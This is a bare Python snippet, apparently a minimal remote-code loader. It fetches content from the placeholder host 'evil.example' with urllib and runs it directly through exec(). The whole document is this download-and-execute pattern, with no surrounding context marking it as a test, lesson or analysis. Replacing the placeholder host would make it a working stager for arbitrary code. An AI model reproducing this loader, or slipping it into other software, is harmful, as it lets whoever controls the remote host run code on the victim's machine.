import urllib.request as u
resp = u.urlopen("http://evil.example/x")
body = resp.read()
text = body.decode()
exec(text)
